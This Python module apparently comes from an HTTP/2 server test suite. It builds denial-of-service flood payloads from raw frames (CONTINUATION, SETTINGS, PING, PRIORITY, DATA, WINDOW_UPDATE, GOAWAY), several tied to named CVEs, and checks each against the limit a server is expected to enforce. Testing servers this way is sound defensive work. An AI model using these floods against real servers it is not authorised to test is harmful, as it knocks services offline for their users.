"""Attacks by HTTP/2 frames without use: floods."""

import functools
from collections.abc import Iterator

from . import attack
from .frames import CALM, ENDS, FAULTS, INITIAL_WINDOW_SIZE, SHRUG_SECONDS, UNPRODUCTIVE, call_head, flood
from .wire import (
    ACK, CONTINUATION, DATA, GOAWAY, PADDED, PING, PREFACE, PRIORITY, REFLECTION, SETTINGS, Peer, Target, Until,
    frame, reset, settings, stream_ids, window_update,
)  # fmt: skip


@functools.cache
def endless_block(target: Target) -> bytes:
    return call_head(target, 1, flags=0) + frame(CONTINUATION, 0, 1, b"\x10\x01a\x01b") * 20_000


@attack(
    title="CONTINUATION flood: a header block without an end (CVE-2024-28182)",
    limit="8 CONTINUATION frames a header block",
    sees="closed",
    counter=FAULTS.format("enhance_your_calm"),
)
def continuation_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, endless_block(target))


@attack(
    title="SETTINGS flood, the acknowledgements read",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def settings_flood(target: Target, until: Until) -> Iterator[str]:
    with Peer(target) as peer:
        # The first one is the preface's.
        for _ in range(15):
            if not peer.send(settings() * 100):
                break
            peer.wait_for(SETTINGS, ACK, 100)
        yield peer.read_to_end()


@attack(
    title="SETTINGS flood, the acknowledgements left unread (CVE-2019-9515)",
    limit="1,000 acknowledgements that wait to be written",
    sees="closed",
    counter=FAULTS.format("unread_answers"),
    also=(CALM,),
)
def settings_flood_unread(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, settings() * 20_000, reads=False)


@functools.cache
def window_changes(target: Target) -> tuple[bytes, bytes]:
    streams = b"".join(call_head(target, stream, path=REFLECTION) for stream in stream_ids(1000))
    return streams, settings((INITIAL_WINDOW_SIZE, 1), (INITIAL_WINDOW_SIZE, 65_535)) * 50


@attack(
    title="SETTINGS that change the windows of 1,000 open streams to and fro",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def window_churn(target: Target, until: Until) -> Iterator[str]:
    streams, changes = window_changes(target)
    with Peer(target) as peer:
        peer.send(streams)
        for _ in range(30):
            if not peer.send(changes):
                break
            peer.wait_for(SETTINGS, ACK, 50)
        yield peer.read_to_end()


@attack(
    title="PING flood",
    limit="2 PINGs sooner than 10 s after the last, while nothing is sent to the peer",
    sees=CALM,
    counter=ENDS.format("too_many_pings"),
)
def ping_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, frame(PING, 0, 0, bytes(8)) * 10)


@attack(
    title="PING flood, the answers left unread (CVE-2019-9512)",
    limit="2 PINGs sooner than 10 s after the last, while nothing is sent to the peer; 1,000 answers that wait to be written",
    sees=CALM,
    counter=ENDS.format("too_many_pings"),
)
def ping_flood_unread(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, frame(PING, 0, 0, bytes(8)) * 20_000, reads=False)


@attack(
    title="Empty DATA frames (CVE-2019-9518)",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def empty_data_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, call_head(target, 1) + frame(DATA, 0, 1) * 2000)


@attack(
    title="DATA frames of nothing but padding",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def padding_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, call_head(target, 1) + frame(DATA, PADDED, 1, b"\x00") * 50_000, seconds=SHRUG_SECONDS)


@functools.cache
def priorities() -> bytes:
    # Each depends on the one before: a tree as deep as can be.
    return b"".join(
        frame(PRIORITY, 0, stream, max(0, stream - 2).to_bytes(4) + b"\x10") for stream in stream_ids(2000)
    )


@attack(
    title="PRIORITY flood (CVE-2019-9513)",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def priority_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, priorities())


@attack(
    title="WINDOW_UPDATE frames for data that was never sent",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def window_update_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, window_update(0, 1) * 2000, begin=PREFACE + settings())


@attack(
    title="GOAWAY frames without end",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def goaway_flood(target: Target, until: Until) -> Iterator[str]:
    # Without a call the connection ends after the first one.
    payload = call_head(target, 1, path=REFLECTION) + frame(GOAWAY, 0, 0, bytes(8)) * 50_000
    yield flood(target, payload, seconds=SHRUG_SECONDS)


@functools.cache
def late_updates(target: Target) -> bytes:
    return call_head(target, 1) + reset(1) + window_update(1, 1) * 1500


@attack(
    title="WINDOW_UPDATE frames for a stream that is closed",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def updates_of_a_closed_stream(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, late_updates(target))


@attack(
    title="Acknowledgements of PINGs that nobody sent",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def unasked_acknowledgements(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, frame(PING, ACK, 0, bytes(8)) * 1500)


@attack(
    title="SETTINGS of more entries than there are settings",
    limit="32 entries a frame",
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def settings_entries(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, settings(*((0x100 + number, 0) for number in range(33))))


@attack(
    title="Frames of unknown types",
    limit=UNPRODUCTIVE,
    sees=CALM,
    counter=FAULTS.format("enhance_your_calm"),
)
def unknown_frame_flood(target: Target, until: Until) -> Iterator[str]:
    yield flood(target, frame(0xEE, 0, 0) * 100_000, seconds=SHRUG_SECONDS)
